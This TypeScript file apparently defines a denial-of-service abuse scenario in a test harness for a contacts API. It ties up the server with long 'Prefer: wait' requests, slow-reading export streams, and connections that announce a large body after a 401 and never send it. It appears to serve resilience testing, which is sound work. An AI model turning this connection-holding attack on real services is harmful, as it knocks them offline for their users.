import { abuse } from '../abuse.ts';
import { headOf, heldConnections } from '../held-connections.ts';
import { clients, together } from '../requests.ts';

const [waits, streams, leftOpen] = [100, 100, 100];
/** Of a body that is announced and mostly not sent. */
const announced = 1_000_000;

type Target = { base: string; apiKey: string; channelId: string; phones: string[]; largeKey: string };

/** No worker runs: what somebody waits for does not come. */
export const heldPlaces = abuse<Target>({
  number: 8,
  finding: 'C8',
  what: `${waits} × Prefer: wait, ${streams} export streams whose readers are slow, ${leftOpen} connections left open after a 401`,
  victims: ['get'],
  hasWorker: false,
  prepare: async ({ base, hostile: { tenant, large } }) => ({
    base,
    apiKey: tenant.apiKey,
    channelId: tenant.channelId,
    phones: tenant.people.map(({ phone }) => phone),
    largeKey: (await large()).apiKey,
  }),
  attack({ base, apiKey, channelId, phones, largeKey }, tally) {
    const waiting = clients(waits, 2_000, tally, (_, number) => ({
      base,
      method: 'POST',
      path: '/v1/contacts/block',
      headers: { 'x-api-key': apiKey, 'content-type': 'application/json', prefer: 'wait=30' },
      body: JSON.stringify({ channel_id: channelId, phone: `+${phones[number % phones.length]}` }),
      nameFor: (status, headers) => `wait: ${status}${headers['preference-applied'] ? '' : ' at once'}`,
    }));
    const exporting = heldConnections(
      {
        base,
        name: 'export',
        count: streams,
        first: [headOf('GET', '/v1/contacts/export', { 'X-Api-Key': largeKey })],
        isPersistent: true,
        isSlowReader: true,
      },
      tally,
    );
    const unread = heldConnections(
      {
        base,
        name: 'bad key',
        count: leftOpen,
        first: [
          headOf('POST', '/v1/contacts', {
            'X-Api-Key': 'kk_nobody',
            'Content-Type': 'application/json',
            'Content-Length': announced,
          }),
          Buffer.from('{'),
        ],
        isPersistent: false,
      },
      tally,
    );
    return together(waiting, exporting, unread);
  },
});
